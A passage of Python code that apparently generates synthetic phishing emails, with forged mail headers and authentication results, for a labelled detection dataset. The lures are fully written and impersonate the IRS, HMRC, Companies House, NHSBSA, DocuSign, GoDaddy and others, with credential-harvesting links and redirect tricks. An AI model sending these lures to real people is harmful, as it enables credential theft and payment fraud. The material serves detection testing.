              f"Received: from [10.{r.num('x', 1, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}] ([10.{r.num('x', 1, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}:{r.num('port', 30000, 60000)}] helo=na{r.num('na', 100, 240)}-app1-{r.num('app', 1, 40)}-ia{r.num('sfi', 4, 6)}.ops.sfdc.net)\n\tby mx1-ia{r.num('sfi', 4, 6)}-sp{r.num('sfs', 1, 3)}.mta.salesforce.com (envelope-from <noreply@salesforce.com>)\n\t(ecelerity 4.5.0.{r.num('ec', 10000, 99999)} r(msys-ecelerity:tags/4.5.0.0^0)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384\n\tsubject=\"/C=US/ST=California/L=San Francisco/O=salesforce.com, inc./OU=0:app;1:ia{r.num('sfi', 4, 6)};2:ia{r.num('sfi', 4, 6)};3:na{r.num('na', 100, 240)};4:prod/CN=na{r.num('na', 100, 240)}-app1-{r.num('app', 1, 40)}-ia{r.num('sfi', 4, 6)}.ops.sfdc.net\")\n\tid {r.hex('ecid', 2, True)}/{r.hex('ecid2', 2, True)}-{r.num('ecid3', 10000, 99999)}-{r.hex('ecid4', 8, True)}; {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}"]
    headers = [f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')} (GMT)",
               "From: Meta for Business <noreply@salesforce.com>", f"To: \"{rcpt}\" <{rcpt}>",
               f"Message-ID: <{r.mixed('mid', 20)}00000000000000000000000000000000000000000000000{r.ALNUM('m2', 8)}@sfdc.net>",
               f"Subject: Your ad account has been restricted - Case ID {case}", "MIME-Version: 1.0",
               "X-Priority: 3", "X-SFDC-LK: " + org, f"X-SFDC-User: 005{r.ALNUM('usr', 12)}", "X-Sender: postmaster@salesforce.com",
               "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp", "X-SFDC-TLS-NoRelay: 1",
               f"X-SFDC-Binding: {r.mixed('bind', 16)}", "X-SFDC-EmailCategory: apiSingleMail", "X-SFDC-Interface: internal"]
    a = AU(f"noreply@salesforce.com", ip, "pass", [("salesforce.com", "sf112022", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="salesforce.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, sender, headers, body)
    return done("phishing", kind, slug,
                "Meta ad-account restriction lure relayed through Salesforce's mail service (From noreply@salesforce.com, DMARC "
                "reject passes) to the agency founder, with a 24-hour appeal link on vercel.app.",
                data)


@sample
def notion_rfp():
    kind, slug = "phish", "notion-rfp-compromised-brand-contact-tallgrass"
    r = S(kind, slug)
    c = CLIENTS["tallgrass"]
    t = T(2025, 7, 15, 19, 4, 44)
    rcpt = "cnolan@tallgrassdigital.com"
    link = f"https://sunbelt-outfitters.notion.site/RFP-Q3-Brand-Refresh-Paid-Social-{r.hex('n', 32)}?pvs=4"
    sig = gsig("Mia Castellanos", "Senior Manager, Brand Marketing", "Sunbelt Outfitters", "512-730-4418",
               '<a href="https://www.sunbeltoutfitters.com">sunbeltoutfitters.com</a>')
    paras = ["Hi Chris,", "",
             "Hope you've been well since SXSW! We're kicking off an agency search for our Q3/Q4 brand refresh and paid social "
             "program (approx. $380K budget) and Tallgrass is on our shortlist.", "",
             f'The full brief, timeline and submission requirements are on our RFP page here: <a href="{link}">Sunbelt Outfitters &#8211; RFP Q3 Brand Refresh &amp; Paid Social</a>', "",
             "Responses are due Friday 7/25. The brief asks you to sign in with your work email so we can track who has accessed it. "
             "Let me know if you have any trouble getting in.", "", "Thanks!", "Mia"]
    body = gmail_alt(r, paras, sig)
    data = send_gmail(r, c, rcpt, t, "mia.castellanos@sunbeltoutfitters.com", "Mia Castellanos <mia.castellanos@sunbeltoutfitters.com>",
                      "Chris Nolan <cnolan@tallgrassdigital.com>", "RFP: Q3 Brand Refresh & Paid Social - Sunbelt Outfitters", body,
                      "America/Chicago", policy="p=QUARANTINE sp=QUARANTINE dis=NONE")
    return done("phishing", kind, slug,
                "New-business RFP from a real brand marketer's hijacked Google Workspace mailbox (passes DMARC quarantine policy) "
                "linking to a notion.site page that asks for a work-email sign-in to read the brief.",
                data)


# =========================================================================== attacks: brand and authority lookalikes

def kit_html(title: str, header_bg: str, header_html: str, paragraphs: list[str], button: str, link: str, footer: str,
             button_bg: str = "#0b5394", font: str = "Arial,Helvetica,sans-serif", width: int = 600) -> str:
    """The HTML a phishing kit's mailer template produces: one table, a banner, text, a button, a footer."""
    ps = "\n".join(f'<p style="margin:0 0 14px 0">{p}</p>' for p in paragraphs)
    return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>{title}</title></head>
<body style="margin:0;padding:0;background:#eeeeee">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#eeeeee"><tr><td align="center" style="padding:20px 0">
<table width="{width}" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:{font};font-size:14px;color:#222222;line-height:21px">
<tr><td style="background:{header_bg};padding:18px 28px">{header_html}</td></tr>
<tr><td style="padding:26px 28px 10px 28px">
{ps}
</td></tr>
<tr><td align="center" style="padding:6px 28px 26px 28px"><a href="{link}" target="_blank" style="background:{button_bg};color:#ffffff;text-decoration:none;font-weight:bold;padding:12px 30px;border-radius:3px;display:inline-block">{button}</a></td></tr>
<tr><td style="padding:16px 28px;font-size:11px;line-height:16px;color:#888888;border-top:1px solid #e5e5e5">{footer}</td></tr>
</table></td></tr></table>
</body></html>
"""


def kit_send(r: R, c: Client, rcpt: str, t: datetime, *, dom: str, from_hdr: str, subject: str, html: str, host: str | None = None,
             ip: str, client_ip: str, tz: str = "UTC", dkim_ok: bool = True, dmarc: str | None = "pass", spf: str = "pass",
             mailfrom: str | None = None, from_dom: str | None = None, extra=(), verdict=None, ctry: str = "US",
             mailer: str | None = "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", reply_to: str | None = None,
             policy: str = "p=NONE sp=NONE dis=NONE", attachments=(), plain: str | None = None, selector: str = "default",
             lang: str = "en") -> bytes:
    """A kit message sent from the attacker's own server (Postfix, OpenDKIM)."""
    host = host or f"mail.{dom}"
    mailfrom = mailfrom or from_hdr.rsplit("<", 1)[-1].rstrip(">")
    alt_part = Multi("alternative", f"b1_{r.alnum('b1', 43, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}",
                     [text(plain or strip_tags(html)), text(html, "html")])
    body = alt_part
    if attachments:
        body = Multi("mixed", f"b2_{r.alnum('b2', 43, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}",
                     [alt_part] + list(attachments))
    sender = postfix_lines(r, t, host, client_ip, rcpt, dom if dkim_ok else None, selector,
                           auth_user=mailfrom.split("@")[0] if dkim_ok else None)
    headers = [f"Date: {rfc(t, tz)}", f"To: {rcpt}", f"From: {from_hdr}"]
    if reply_to:
        headers.append(f"Reply-To: {reply_to}")
    headers += [f"Subject: {subject}", f"Message-ID: <{r.mixed('kmid', 43)}@{dom}>"]
    if mailer:
        headers.append(f"X-Mailer: {mailer}")
    headers += ["MIME-Version: 1.0"] + list(extra)
    a = AU(mailfrom, ip, spf, [(dom, selector, "pass")] if dkim_ok else [], dmarc, policy, from_dom=from_dom or dom)
    return deliver(r, c, rcpt, t + timedelta(seconds=3), host, ip, a, sender, headers, body, verdict=verdict, ctry=ctry,
                   lang=lang)


@sample
def irs_efin_suspended():
    kind, slug = "phish", "irs-eservices-efin-suspended-mendell"
    r = S(kind, slug)
    c = CLIENTS["mendell"]
    t = T(2025, 2, 11, 15, 30, 45)
    rcpt = "amendell@mendellokafor.com"
    dom = "irs-eservices-portal.com"
    link = f"https://{dom}/e-services/efin/verify?ref={r.hex('ref', 12).upper()}&amp;ero={base64.b64encode(rcpt.encode()).decode()}"
    html = kit_html("IRS e-Services", "#00599c",
                    '<span style="color:#fff;font-size:22px;font-family:Georgia,serif;font-weight:bold">IRS</span>'
                    '<span style="color:#dbe8f3;font-size:14px;padding-left:12px">e-Services | Electronic Filing</span>',
                    ["Dear Electronic Return Originator,",
                     "During a routine compliance review of e-file applications for the 2025 filing season, we were unable to verify the "
                     "identity information associated with the Electronic Filing Identification Number (EFIN) assigned to your firm.",
                     "<b>Your EFIN has been temporarily suspended.</b> Returns transmitted under this EFIN will be rejected with error "
                     "code R0000-902-01 until verification is completed.",
                     "To restore e-file privileges, sign in to e-Services and complete the Secure Access identity verification within "
                     "48 hours of this notice. Firms that do not complete verification will have their EFIN deactivated and must reapply "
                     "using Form 8633.",
                     "Notice reference: EFIN-VR-2025-0211-" + r.hex("nr", 6).upper()],
                    "Verify EFIN Now", link,
                    "This message was sent by the Internal Revenue Service, e-File Services. Please do not reply to this email. "
                    "IRS.gov | Privacy Policy | Accessibility", "#00599c")
    lines, helo, ip, msgid = mailgun_lines(r, t, dom)
    body = Multi("alternative", r.hex("mgb", 32), [text(strip_tags(html)), text(html, "html")])
    headers = ["Mime-Version: 1.0",
               "Subject: IRS e-Services: Action Required - Your EFIN has been temporarily suspended",
               f"From: \"IRS e-Services\" <no-reply@{dom}>", f"To: {rcpt}", f"Message-Id: {msgid}",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}"]
    headers = [h for h in headers if h]
    a = AU(f"bounce+{r.hex('bo', 6)}.{r.hex('bo2', 4)}-amendell=mendellokafor.com@{dom}", ip, "pass", [(dom, "mx", "pass")],
           "pass", from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, lines, headers, body,
                   verdict=dict(scl=9, sfv="SPM", cat="HPHSH", dest="J", sfty="9.25"), ptr=helo)
    return done("phishing", kind, slug,
                "Tax-season EFIN suspension notice aimed at the CPA practice, sent through Mailgun from an IRS lookalike domain "
                "(auth passes) to a Secure Access 'verification' page; Exchange had quarantined it as high-confidence phish.",
                data)


@sample
def hmrc_spoof_reject():
    kind, slug = "phish", "hmrc-ct-refund-spoof-dmarc-fail-bramley"
    r = S(kind, slug)
    c = CLIENTS["bramley"]
    t = T(2024, 11, 19, 6, 12, 3)
    rcpt = "paula.hendry@bramleybuild.co.uk"
    link = f"https://pub-{r.hex('r2', 32)}.r2.dev/gov.uk/hmrc/refund.html?ref=CT{r.num('ct', 10**9, 10**10 - 1)}"
    html = kit_html("HM Revenue & Customs", "#0b0c0c",
                    '<span style="color:#ffffff;font-size:24px;font-weight:bold;font-family:Arial">&#x1F451; GOV.UK</span>',
                    ["Dear Customer,",
                     "Following the review of your company's Corporation Tax return for the accounting period ending 31/03/2024, we have "
                     "determined that you are eligible to receive a tax refund of <b>&pound;2,914.37</b>.",
                     "Please submit the refund request and allow us 3-5 working days to process it. A refund can be delayed for a variety "
                     "of reasons, for example submitting invalid records or applying after the deadline.",
                     "Company UTR: 43*****812"],
                    "Access your refund", link, "&copy; Crown copyright. HM Revenue &amp; Customs, BX9 1AS.", "#00703c",
                    width=580)
    host = f"vmi{r.num('vmi', 1000000, 2999999)}.contaboserver.net"
    ip = f"161.97.{r.num('c3', 64, 127)}.{r.num('c4', 2, 250)}"
    data = kit_send(r, c, rcpt, t, dom="hmrc.gov.uk", from_hdr="\"HM Revenue & Customs\" <no-reply@hmrc.gov.uk>",
                    subject="Corporation Tax refund notification - Ref: CT/2024/REF", html=html, host=host, ip=ip,
                    client_ip="127.0.0.1", dkim_ok=False, dmarc="fail", spf="none", mailfrom=f"root@{host}",
                    from_dom="hmrc.gov.uk", policy="p=REJECT sp=REJECT dis=REJECT", ctry="DE", mailer=None,
                    verdict=dict(scl=5, sfv="SPM", cat="SPOOF", dest="J"))
    return done("phishing", kind, slug,
                "Direct spoof of no-reply@hmrc.gov.uk from a Contabo VPS: SPF none, unsigned, DMARC fails hmrc.gov.uk's reject "
                "policy (Exchange oreject, junked); a corporation-tax refund link on an r2.dev bucket.",
                data)


@sample
def companies_house_lookalike():
    kind, slug = "phish", "companies-house-confirmation-statement-penalty-foxglove"
    r = S(kind, slug)
    c = CLIENTS["foxglove"]
    t = T(2025, 9, 8, 8, 4, 51)
    rcpt = "zoe@foxglovecreative.co.uk"
    dom = "companieshouse-filing.uk"
    link = f"https://{dom}/file/confirmation-statement/company/{r.num('crn', 10000000, 15999999):08d}/authenticate"
    html = kit_html("Companies House", "#0b0c0c",
                    '<span style="color:#ffffff;font-size:20px;font-weight:bold">Companies House</span>',
                    ["Dear Director,",
                     "Our records show that the confirmation statement (CS01) for <b>FOXGLOVE CREATIVE LTD</b> is now overdue. Under the "
                     "Economic Crime and Corporate Transparency Act 2023 companies that fail to file may be struck off the register and "
                     "directors may face prosecution.",
                     "To avoid a late filing penalty of &pound;1,500 you must file your confirmation statement and verify your identity "
                     "using your company authentication code before <b>12 September 2025</b>.",
                     "You will need: your company number, authentication code and director date of birth."],
                    "File confirmation statement", link,
                    "Companies House, Crown Way, Cardiff, CF14 3UZ. This is an automated message, please do not reply.", "#00703c")
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"Companies House <no-reply@{dom}>",
                    subject="Confirmation statement overdue - FOXGLOVE CREATIVE LTD - action required", html=html,
                    ip=f"45.141.{r.num('c3', 84, 87)}.{r.num('c4', 2, 250)}", client_ip=f"185.220.{r.num('t3', 100, 103)}.{r.num('t4', 2, 250)}",
                    tz="Europe/London", dmarc=None, ctry="RU")
    return done("phishing", kind, slug,
                "Companies House confirmation-statement penalty threat from a .uk lookalike domain on a VPS (SPF/DKIM pass, no "
                "DMARC) asking the director for the authentication code and date of birth.",
                data)


@sample
def hipaa_secure_message():
    kind, slug = "phish", "hipaa-secure-message-delta-dental-lookalike-brightwater"
    r = S(kind, slug)
    c = CLIENTS["brightwater"]
    t = T(2024, 7, 23, 13, 48, 11)
    rcpt = "tjennings@brightwaterdental.com"
    dom = "deltadental-securemail.com"
    link = f"https://ddsecuremsg{r.num('z', 10, 99)}.z13.web.core.windows.net/?msg={r.hex('m', 24)}#{base64.b64encode(rcpt.encode()).decode()}"
    html = kit_html("Secure Message", "#ffffff",
                    '<span style="color:#00737c;font-size:22px;font-weight:bold">DELTA DENTAL</span>'
                    '<span style="color:#666;font-size:13px;padding-left:12px">Secure Message Center</span>',
                    ["You have received a new <b>secure, encrypted message</b> from Delta Dental Provider Services.",
                     "<b>From:</b> Provider Claims Review &lt;claims.review@deltadental.com&gt;<br><b>Subject:</b> Claim adjustment "
                     "&#8211; Pt. Acct #BW-20471 &#8211; D2740 / D2950<br><b>Expires:</b> 07/30/2024",
                     "This message contains Protected Health Information (PHI) and is secured in accordance with HIPAA. To read the "
                     "message, sign in with the email address it was sent to.",
                     "If you are unable to open the secure message, contact Provider Services."],
                    "Read Secure Message", link,
                    "CONFIDENTIALITY NOTICE: This message is intended only for the named recipient and may contain PHI protected under "
                    "HIPAA (45 CFR Parts 160 and 164). Secured by Zix.", "#00737c")
    lines, helo, ip, msgid, after, pref = ses_lines(r, t, [(dom, f"{r.alnum('sel', 32)}")])
    body = Multi("alternative", f"----=_Part_{r.num('p', 100000, 999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    headers = [f"From: \"Delta Dental Secure Message\" <securemessage@{dom}>", f"To: {rcpt}",
               "Subject: [Secure] New encrypted message regarding patient claim (PHI)", "MIME-Version: 1.0",
               f"Message-ID: {msgid}", f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}"] + after
    a = AU(f"{pref}-{r.guid('sesrp')}-000000@amazonses.com", ip, "pass",
           [(dom, "sel", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], None, from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=1), helo, ip, a, lines, headers, body)
    return done("phishing", kind, slug,
                "HIPAA 'secure message' lookalike for a dental claim, sent through Amazon SES from a registered Delta Dental "
                "lookalike, linking to an Azure static-website bucket with the office manager's address in the fragment.",
                data)


@sample
def nhsbsa_lookalike():
    kind, slug = "phish", "nhsbsa-compass-payment-withheld-kestrel"
    r = S(kind, slug)
    c = CLIENTS["kestrel"]
    t = T(2025, 5, 6, 7, 58, 22)
    rcpt = "sunita.kaur@kestrellanedental.co.uk"
    dom = "nhsbsa-payments.co.uk"
    link = f"https://www.google.com/amp/s/nhs-compass-portal.web.app/login%3Fcontract%3D{r.num('ct', 100000, 999999)}"
    html = kit_html("NHSBSA Dental Services", "#005eb8",
                    '<span style="color:#fff;font-size:20px;font-weight:bold;background:#fff;color:#005eb8;padding:2px 6px">NHS</span>'
                    '<span style="color:#fff;font-size:15px;padding-left:10px">Business Services Authority</span>',
                    ["Dear Practice Manager,",
                     "Your monthly schedule payment for <b>May 2025</b> (contract 1023-447) has been <b>withheld</b> because the bank "
                     "account held on Compass could not be validated following the April contract year-end reconciliation.",
                     "To avoid further delay to UDA payments, the performer or contract holder must sign in to Compass and re-confirm the "
                     "practice bank details by <b>9 May 2025</b>.",
                     "Dental Services, NHS Business Services Authority"],
                    "Sign in to Compass", link, "NHS Business Services Authority, Stella House, Goldcrest Way, Newburn Riverside, "
                    "Newcastle upon Tyne NE15 8NY. This inbox is not monitored.", "#005eb8")
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"NHSBSA Dental Services <dental.services@{dom}>",
                    subject="Compass: your schedule payment for May 2025 has been withheld", html=html,
                    ip=f"91.92.{r.num('c3', 240, 254)}.{r.num('c4', 2, 250)}", client_ip=f"5.62.{r.num('v3', 40, 63)}.{r.num('v4', 2, 250)}",
                    tz="Europe/London", dmarc="pass", ctry="BG", mailer="Microsoft Outlook 16.0")
    return done("phishing", kind, slug,
                "NHSBSA dental-contract payment lookalike (registered .co.uk domain, SPF/DKIM/DMARC pass) sending the practice "
                "manager through a google.com/amp redirect to a Firebase-hosted Compass login.",
                data)


@sample
def acrobat_sign_lookalike():
    kind, slug = "phish", "acrobat-sign-settlement-lookalike-whitcombe"
    r = S(kind, slug)
    c = CLIENTS["whitcombe"]
    t = T(2025, 11, 4, 16, 22, 37)
    rcpt = "mreyes@whitcombereyes.com"
    dom = "echosign-agreements.com"
    link = f"https://pub-{r.hex('r2', 32)}.r2.dev/sign/agreement.html#{base64.b64encode(rcpt.encode()).decode()}"
    html = kit_html("Adobe Acrobat Sign", "#ffffff",
                    '<span style="color:#eb1000;font-size:20px;font-weight:bold">&#9650; Adobe</span>'
                    '<span style="color:#2c2c2c;font-size:15px;padding-left:10px">Acrobat Sign</span>',
                    ["<span style=\"font-size:18px\">Megan Castillo requests your signature on</span><br>"
                     "<b style=\"font-size:18px\">Settlement Agreement and Mutual Release - FINAL.pdf</b>",
                     "Marcus, please review and sign the final settlement agreement so we can file the stipulated dismissal by Friday. "
                     "All other parties have signed.",
                     "<span style=\"color:#6e6e6e;font-size:12px\">After you sign, all parties will receive a final PDF copy by "
                     "email.</span>"],
                    "Review and sign", link,
                    "Powered by Adobe Acrobat Sign. To ensure that you continue receiving our emails, please add "
                    "adobesign@adobesign.com to your address book or safe list. &copy; 2025 Adobe. All rights reserved.",
                    "#1473e6", font="adobe-clean,'Helvetica Neue',Arial,sans-serif")
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"\"Megan Castillo via Adobe Acrobat Sign\" <adobesign@{dom}>",
                    subject="Signature requested on \"Settlement Agreement and Mutual Release - FINAL\"", html=html,
                    ip=f"193.149.{r.num('c3', 176, 191)}.{r.num('c4', 2, 250)}", client_ip="127.0.0.1",
                    tz="America/Denver", dmarc="pass", ctry="US", mailer=None,
                    verdict=dict(scl=1))
    return done("phishing", kind, slug,
                "Acrobat Sign lookalike from 'echosign-agreements.com' (own SPF/DKIM/DMARC pass) asking the partner to sign a "
                "final settlement, linking to a Cloudflare R2 page with his address base64 in the fragment.",
                data)


@sample
def docusign_lookalike():
    kind, slug = "phish", "docusign-lookalike-purchase-addendum-cedar"
    r = S(kind, slug)
    c = CLIENTS["cedar"]
    t = T(2024, 6, 11, 20, 5, 41)
    rcpt = "msorensen@cedarhollowrealty.com"
    dom = "docusign-envelope.net"
    final = f"https://doc-review-{r.hex('w', 4)}.kylelhf{r.num('k', 10, 99)}.workers.dev/?e={base64.b64encode(rcpt.encode()).decode()}"
    track = f"https://u{r.num('u', 1000000, 49999999)}.ct.sendgrid.net/ls/click?upn=u001.{r.b64url('upn', 110)}"
    _ = final
    html = f"""<html><body style="background-color:#EAEAEA;padding:0;margin:0">
<table width="100%" cellpadding="0" cellspacing="0" style="background-color:#EAEAEA"><tr><td style="padding:20px 0">
<table align="center" width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:12px 24px;font-size:22px;font-weight:bold;color:#000">DocuSign</td></tr>
<tr><td style="padding:0 24px 24px 24px"><table width="100%" style="background:#1E4CA1;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 24px;font-size:16px">
Pinecrest Lending sent you a document to review and sign.<br><br>
<a href="{track}" style="font-size:15px;color:#333333;background-color:#FFC423;font-weight:bold;text-decoration:none;padding:10px 24px;display:inline-block">REVIEW DOCUMENT</a></td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:15px;color:#000"><b>Pinecrest Lending Closing Dept</b><br><br>Please review and complete: Purchase_Agreement_Addendum_2.pdf (appraisal gap / closing date extension) &#8211; 4218 W Stonehenge Dr.<br><br>Thank You.</td></tr>
<tr><td style="padding:0 24px 20px 24px;font-size:11px;color:#666666"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br>
<b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr>
</table></td></tr></table><img src="https://u{r.num('u', 1000000, 49999999)}.ct.sendgrid.net/wf/open?upn=u001.{r.b64url('op', 60)}" width="1" height="1" alt=""></body></html>
"""
    lines, helo, ip, msgid = sendgrid_lines(r, t, dom)
    body = Multi("alternative", r.hex("sgb", 60), [text(strip_tags(html)), text(html, "html")])
    headers = [f"Date: {format_datetime(t.astimezone(UTC))[:-6]} +0000 (UTC)",
               f"From: \"Pinecrest Lending via DocuSign\" <dse_na4@{dom}>", "Mime-Version: 1.0", f"Message-ID: {msgid}",
               "Subject: Complete with DocuSign: Purchase_Agreement_Addendum_2.pdf", f"X-Feedback-ID: {r.num('fb', 1000000, 9999999)}:SG",
               f"To: {rcpt}"] + sendgrid_after(r)
    a = AU(f"bounces+{r.num('bn', 10000000, 99999999)}-{r.hex('bh', 4)}-msorensen=cedarhollowrealty.com@em{r.num('em', 1000, 9999)}.{dom}",
           ip, "pass", [(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, lines, headers, body)
    return done("phishing", kind, slug,
                "DocuSign lookalike for a purchase-agreement addendum from 'docusign-envelope.net' via SendGrid (auth passes); the "
                "button hides a Cloudflare Workers phishing page behind SendGrid click tracking.",
                data)


@sample
def gusto_open_enrollment():
    kind, slug = "phish", "gusto-open-enrollment-lookalike-ses-pinegate"
    r = S(kind, slug)
    c = CLIENTS["pinegate"]
    t = T(2024, 11, 12, 14, 27, 33)
    rcpt = "kmoody@pinegaterealty.com"
    dom = "gusto-benefitscenter.com"
    link = f"https://gusto-benefits-2025.netlify.app/login?c={r.hex('c', 10)}"
    html = kit_html("Gusto", "#f45d48", '<span style="color:#fff;font-size:24px;font-weight:bold;font-family:Georgia,serif">gusto</span>',
                    ["Hi Kristen,",
                     "Open enrollment for <b>Pinegate Realty Group</b>'s 2025 health, dental and vision benefits closes this "
                     "<b>Friday, November 15</b>.",
                     "Our records show you haven't completed your elections yet. If you don't make a selection, your current coverage "
                     "will not carry over and you will be unenrolled from all benefits for the 2025 plan year.",
                     "It only takes a few minutes. Sign in to review your plan options and confirm your dependents."],
                    "Review my benefits", link,
                    "Gusto, 525 20th St, San Francisco, CA 94107. You're receiving this because you're an employee at Pinegate Realty "
                    "Group.", "#0a8080", font="'Gusto Sans',Helvetica,Arial,sans-serif")
    lines, helo, ip, msgid, after, pref = ses_lines(r, t, [(dom, r.alnum('sel', 32))], "us-west-2")
    body = Multi("alternative", f"----=_Part_{r.num('p', 100000, 999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html)), text(html, "html")])
    headers = [f"From: Gusto <benefits@{dom}>", f"To: Kristen Moody <{rcpt}>",
               "Subject: Action needed: your 2025 benefits elections are incomplete", "MIME-Version: 1.0",
               f"Message-ID: {msgid}", f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}"] + after
    a = AU(f"{pref}-{r.guid('sesrp')}-000000@us-west-2.amazonses.com", ip, "pass",
           [(dom, "sel", "pass"), ("amazonses.com", "7v7vs6w47njt4pimodk5mmttbegzsi6n", "pass")], None, from_dom=dom)
    data = deliver(r, c, rcpt, t + timedelta(seconds=1), helo, ip, a, lines, headers, body, verdict=dict(scl=1, bcl=3))
    return done("phishing", kind, slug,
                "Benefits open-enrollment lure in Gusto's voice from a lookalike domain on Amazon SES (SPF/DKIM pass, no DMARC), "
                "threatening loss of coverage and linking to a Netlify login page.",
                data)


@sample
def godaddy_renewal_lookalike():
    kind, slug = "phish", "godaddy-renewal-failed-lookalike-keystone"
    r = S(kind, slug)
    c = CLIENTS["keystone"]
    t = T(2025, 1, 21, 12, 50, 6)
    rcpt = "dhartman@keystonelandtitle.com"
    dom = "godaddy-billingcenter.com"
    link = f"https://sso.godaddy.com.account-renew.{'co'}/login?realm=idp&amp;app=account&amp;path=%2Frenewals%2F{r.num('o', 10**8, 10**9 - 1)}"
    html = kit_html("GoDaddy", "#111111", '<span style="color:#fff;font-size:22px;font-weight:bold">GoDaddy</span>',
                    ["Hi Doug,",
                     "We were unable to process the automatic renewal for <b>keystonelandtitle.com</b> because the payment method on "
                     "file was declined.",
                     "<b>Your domain expires in 2 days (01/23/2025).</b> When a domain expires, your website and <b>all email "
                     "addresses on the domain stop working</b>, and the domain may become available for someone else to register.",
                     "Update your payment information now to keep your domain, website and email active.",
                     "Customer number: " + str(r.num("cust", 10**8, 10**9 - 1))],
                    "Renew Now", link,
                    "Copyright &copy; 1999-2025 GoDaddy Operating Company, LLC. All Rights Reserved. 100 S. Mill Ave, Suite 1600, "
                    "Tempe, AZ 85281, USA", "#00a4a6")
    data = kit_send(r, c, rcpt, t, dom=dom, from_hdr=f"GoDaddy <renewals@{dom}>",
                    subject="URGENT: keystonelandtitle.com expires in 2 days - auto-renew failed", html=html,
                    ip=f"172.86.{r.num('c3', 64, 127)}.{r.num('c4', 2, 250)}", client_ip=f"102.89.{r.num('v3', 0, 63)}.{r.num('v4', 2, 250)}",
                    tz="America/Phoenix", dmarc=None, ctry="US")
    return done("phishing", kind, slug,
                "GoDaddy failed-renewal lookalike naming the title company's own domain, from a registered lookalike (SPF/DKIM "
                "pass, no DMARC), linking to an sso.godaddy.com.* subdomain trick.",
                data)


@sample
def squarespace_google_domains():
    kind, slug = "phish", "google-domains-squarespace-transfer-mailjet-grace"
    r = S(kind, slug)
    c = CLIENTS["grace"]
    t = T(2024, 7, 9, 16, 3, 19)
    rcpt = "office@gracefellowshipfranklin.org"
    dom = "squarespace-domainmigration.com"
    mj = f"https://{r.alnum('mj', 6)}.mjt.lu/lnk/{r.b64url('lnk', 60)}/1/{r.b64url('lnk2', 24)}/aHR0cHM6Ly9sb2dpbi5zcXVhcmVzcGFjZS1kb21haW5taWdyYXRpb24uY29tL2F1dGg"
    html = kit_html("Squarespace Domains", "#000000",
                    '<span style="color:#fff;font-size:20px;font-weight:bold;letter-spacing:1px">SQUARESPACE</span>',
                    ["Hello,",
                     "As you know, Google Domains has been acquired by Squarespace and all Google Domains registrations are being "
                     "migrated. <b>gracefellowshipfranklin.org</b> has been moved to Squarespace Domains, but the transfer is not "
                     "complete.",
                     "To keep your domain, website and Google Workspace email working, sign in with the Google account that managed the "
                     "domain and confirm your billing information by <b>July 12, 2024</b>. Domains that are not confirmed will be "
                     "placed on hold.",
                     "Thank you for choosing Squarespace."],
                    "Complete Transfer", mj,
                    "Squarespace Domains II LLC, 225 Varick Street, New York, NY 10014. You are receiving this email because you are "
                    "the registrant of a domain formerly managed by Google Domains.", "#000000",
                    font="Clarkson,'Helvetica Neue',Arial,sans-serif")
    ip = f"87.253.{r.num('c3', 232, 239)}.{r.num('c4', 2, 250)}"
    helo = f"o{r.num('o', 100, 300)}.p{r.num('p', 1, 40)}.mailjet.com"
    body = Multi("alternative", r.hex("mjb", 30), [text(strip_tags(html)), text(html, "html")])
    sender = [dkim(r, dom, "mailjet", "a:Message-Id:Date:Subject:From:To:MIME-Version:Content-Type".replace("a:", ""), t, "generic"),
              dkim(r, "mailjet.com", "mailjet", "a:Message-Id:Date:Subject:From:To:MIME-Version:Content-Type".replace("a:", ""), t, "generic", label="mj")]
    headers = [f"Message-Id: <{r.guid('mjmid')}@{dom}>", f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               "Subject: Action required: complete the transfer of gracefellowshipfranklin.org from Google Domains",
               f"From: Squarespace Domains <domains@{dom}>", f"To: {rcpt}", "MIME-Version: 1.0",
               f"X-Feedback-Id: {r.num('fb', 10000, 99999)}.{r.num('fb2', 1000000, 9999999)}.{r.num('fb3', 10000, 99999)}:MJ",
               "X-CSA-Complaints: csa-complaints@eco.de", f"X-MJ-Mid: {r.b64url('mjm', 45)}", f"X-Mailjet-Campaign: {r.num('mc', 10**9, 10**10 - 1)}",
